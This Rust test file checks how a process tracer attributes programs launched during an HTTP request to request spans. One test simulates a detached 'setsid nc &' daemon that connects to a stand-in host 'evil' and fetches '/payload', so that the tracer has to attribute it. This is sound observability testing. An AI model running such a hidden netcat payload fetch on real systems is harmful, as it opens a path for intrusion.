//! Processes launched for an exchange.

mod scene;

use scene::{Client, Conn, Scene, Server, Thread, get, records, text};

const S: Thread = Thread(20, 20);
const OK: &str = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";

/// A server's thread has read a request.
fn busy() -> (Scene, Conn) {
    let mut s = Scene::new();
    let conn = s.accept(80);
    s.recv(S, conn, Server, &get("/a"));
    (s, conn)
}

#[test]
fn a_command_under_its_request() {
    let (mut s, conn) = busy();
    s.fork(S, 40);
    s.exec(Thread(40, 40), &["sh", "-c", "id; false"]);
    s.fork(Thread(40, 40), 41);
    s.exec(Thread(41, 41), &["id"]);
    s.exit(41, 0);
    s.exit(40, 1 << 8);
    s.send(S, conn, Server, OK);
    assert_eq!(
        s.settle(),
        [
            "SERVER GET /a 200 @20",
            "INTERNAL sh -c id; false = 1 @20 < SERVER /a by thread",
            "INTERNAL id = 0 @20 < INTERNAL sh by thread",
        ]
    );
    let failed = s.spans().iter().any(|span| text(span, "error.type").as_deref() == Some("exit 1"));
    assert!(failed);
}

#[test]
fn a_daemon_that_outlives_the_response() {
    let (mut s, conn) = busy();
    s.fork(S, 40);
    s.exec(Thread(40, 40), &["sh", "-c", "setsid nc &"]);
    s.fork(Thread(40, 40), 41);
    s.exit(40, 0);
    s.fork(Thread(41, 41), 42);
    s.exit(41, 0);
    s.send(S, conn, Server, OK);
    s.wait(5_000);
    s.exec(Thread(42, 42), &["nc", "evil", "80"]);
    let call = s.begin_connect(Thread(42, 42), 80);
    s.established(call, Thread(42, 42));
    s.send(Thread(42, 42), call, Client, &get("/payload"));
    s.recv(Thread(42, 42), call, Client, OK);
    s.exit(42, 9);
    assert_eq!(
        s.settle(),
        [
            "SERVER GET /a 200 @20",
            "INTERNAL sh -c setsid nc & = 0 @20 < SERVER /a by thread",
            "INTERNAL nc evil 80 = 137 @20 < INTERNAL sh by thread",
            "CLIENT GET /payload 200 @42 < INTERNAL nc by thread",
        ]
    );
}

#[test]
fn a_child_that_runs_before_its_parent() {
    // vfork: the parent waits for the exec.
    let (mut s, conn) = busy();
    s.fork(S, 40);
    s.exec(Thread(40, 40), &["true"]);
    s.send(S, conn, Server, OK);
    s.exit(40, 0);
    assert_eq!(s.settle(), ["SERVER GET /a 200 @20", "INTERNAL true = 0 @20 < SERVER /a by thread"]);
}

#[test]
fn an_exec_by_a_thread_that_is_not_the_leader() {
    let (mut s, conn) = busy();
    s.fork(S, 40);
    s.exec(Thread(40, 47), &["first"]);
    s.exec(Thread(40, 48), &["second"]);
    s.fork(Thread(40, 40), 41);
    s.exec(Thread(41, 41), &["third"]);
    s.exit(41, 0);
    s.exit(40, 0);
    s.send(S, conn, Server, OK);
    assert_eq!(
        s.settle(),
        [
            "SERVER GET /a 200 @20",
            "INTERNAL second = 0 @20 < SERVER /a by thread",
            "INTERNAL third = 0 @20 < INTERNAL second by thread",
        ]
    );
    let images = s.spans().iter().find_map(|span| text(span, "tracer.process.images"));
    assert_eq!(images.as_deref(), Some("first second"));
}

#[test]
fn an_exit_is_told_once() {
    let (mut s, conn) = busy();
    s.fork(S, 40);
    s.exec(Thread(40, 40), &["sh"]);
    s.exit(40, 0);
    s.exit(40, 1 << 8);
    s.send(S, conn, Server, OK);
    assert_eq!(s.settle(), ["SERVER GET /a 200 @20", "INTERNAL sh = 0 @20 < SERVER /a by thread"]);
}

#[test]
fn a_thread_that_ends_is_not_the_process() {
    let (mut s, conn) = busy();
    s.fork(S, 40);
    s.exec(Thread(40, 40), &["java"]);
    let exit = records::exit(s.time_ns, Thread(40, 41), 0, false);
    s.tell(&exit);
    s.wait(20_000);
    assert_eq!(s.spans().len(), 0);
    s.exit(40, 15);
    s.send(S, conn, Server, OK);
    assert_eq!(s.settle(), ["SERVER GET /a 200 @20", "INTERNAL java = 143 @20 < SERVER /a by thread"]);
}

#[test]
fn what_a_server_launches_without_a_request_is_a_root() {
    let mut s = Scene::new();
    let conn = s.accept(80);
    s.fork(S, 40);
    s.exec(Thread(40, 40), &["cron"]);
    s.recv(S, conn, Server, &get("/a"));
    s.send(S, conn, Server, OK);
    s.fork(S, 43); // after the response
    s.exec(Thread(43, 43), &["late"]);
    s.fork(Thread(43, 43), 44);
    s.exec(Thread(44, 44), &["later"]);
    for pid in [40, 44, 43] {
        s.exit(pid, 0);
    }
    assert_eq!(
        s.settle(),
        [
            "SERVER GET /a 200 @20",
            "INTERNAL late = 0 @20",
            "INTERNAL later = 0 @20 < INTERNAL late by thread"
        ]
    );
}

#[test]
fn another_thread_forks_for_the_only_open_request() {
    let (mut s, conn) = busy();
    s.fork(Thread(20, 29), 40);
    s.exec(Thread(40, 40), &["convert"]);
    s.exit(40, 0);
    s.send(S, conn, Server, OK);
    assert_eq!(s.settle(), ["SERVER GET /a 200 @20", "INTERNAL convert = 0 @20 < SERVER /a by next_answer"]);
}

#[test]
fn a_worker_forked_without_exec_is_no_span() {
    let (mut s, conn) = busy();
    s.fork(S, 40);
    s.send(S, conn, Server, OK);
    s.exit(40, 0);
    assert_eq!(s.settle(), ["SERVER GET /a 200 @20"]);
}

#[test]
fn a_number_used_again_at_once() {
    let (mut s, conn) = busy();
    for args in [["one"], ["two"]] {
        s.fork(S, 40);
        s.exec(Thread(40, 40), &args);
        s.exit(40, 0);
    }
    s.wait(9_000);
    s.fork(S, 40);
    s.exec(Thread(40, 40), &["three"]);
    s.wait(9_000); // what was known of the first two is forgotten
    s.exit(40, 0);
    s.fork(Thread(99, 99), 40);
    s.exec(Thread(40, 40), &["a stranger"]);
    s.exit(40, 0);
    s.send(S, conn, Server, OK);
    assert_eq!(
        s.settle(),
        [
            "SERVER GET /a 200 @20",
            "INTERNAL one = 0 @20 < SERVER /a by thread",
            "INTERNAL two = 0 @20 < SERVER /a by thread",
            "INTERNAL three = 0 @20 < SERVER /a by thread",
        ]
    );
}

#[test]
fn a_launch_whose_exit_was_lost_ends_when_its_number_is_used_again() {
    let (mut s, conn) = busy();
    s.fork(S, 40);
    s.exec(Thread(40, 40), &["lost"]);
    s.lose(1);
    s.exit(40, 0);
    s.fork(Thread(99, 99), 40);
    s.send(S, conn, Server, OK);
    assert_eq!(s.settle(), ["SERVER GET /a 200 @20", "INTERNAL lost @20 < SERVER /a by thread"]);
}

#[test]
fn a_launch_that_never_ends_is_told_at_the_end() {
    let (mut s, conn) = busy();
    s.fork(S, 40);
    s.exec(Thread(40, 40), &["sleep", "inf"]);
    s.send(S, conn, Server, OK);
    assert_eq!(s.settle(), ["SERVER GET /a 200 @20"]);
    assert_eq!(s.finish(), ["SERVER GET /a 200 @20", "INTERNAL sleep inf @20 < SERVER /a by thread"]);
}
